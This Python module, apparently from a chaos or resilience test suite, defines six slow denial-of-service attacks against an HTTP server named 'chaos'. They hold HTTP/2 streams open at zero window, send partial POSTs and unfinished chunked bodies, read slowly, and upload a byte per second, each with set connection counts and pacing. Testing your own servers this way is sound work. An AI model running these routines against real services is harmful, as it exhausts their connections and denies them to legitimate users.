"""Requests that hold a place among those in flight for as long as they can."""
import frames
from attacks.attack import attack
from attacks.http2 import STREAMS, counting, requests

SMALL_BUFFER = 4096
POST = b"POST /upload HTTP/1.1\r\nHost: chaos\r\n"


@attack(connections=5, pace=5)
async def places_streams(link):
    """five connections of 128 streams with window 0 on a routed API"""
    await link.connect()
    await link.send(frames.opening(0) + b"".join(requests("GET", "/good/x", STREAMS)))
    await link.until_closed(counting(link))


@attack(connections=60, pace=20)
async def places_half_streams(link):
    """128 uploads of which one byte comes: each has a connection to the upstream, so a file"""
    await link.connect()
    byte = [frames.frame(frames.DATA, 0, 1 + 2 * number, b"x") for number in range(STREAMS)]
    await link.send(frames.opening(0) + b"".join(head + each for head, each in zip(requests("POST", "/upload", STREAMS, end=False), byte)))
    await link.until_closed(counting(link))


@attack(connections=620, pace=310)
async def places_posts(link):
    """POSTs of 100 bytes of which 50 come"""
    await link.connect()
    await link.send(POST + b"Content-Length: 100\r\n\r\n" + b"x" * 50)
    await link.until_closed()


@attack(connections=200, pace=50)
async def places_chunks(link):
    """POSTs in chunks of which the last never comes"""
    await link.connect()
    await link.send(POST + b"Transfer-Encoding: chunked\r\n\r\n" + b"32\r\n" + b"x" * 50 + b"\r\n")
    await link.until_closed()


@attack(connections=100, pace=20)
async def places_readers(link):
    """large answers that are read a byte a second"""
    await link.connect(receive_buffer=SMALL_BUFFER)
    await link.send(b"GET /large HTTP/1.1\r\nHost: chaos\r\n\r\n")
    while link.stands():
        await link.taste()
        await link.rest(1)


@attack(connections=100, pace=20)
async def places_uploads(link):
    """uploads that come a byte a second"""
    await link.connect()
    await link.send(POST + b"Content-Length: 100000\r\n\r\n")
    await link.send_slowly(b"x" * 100_000, 1, 1)
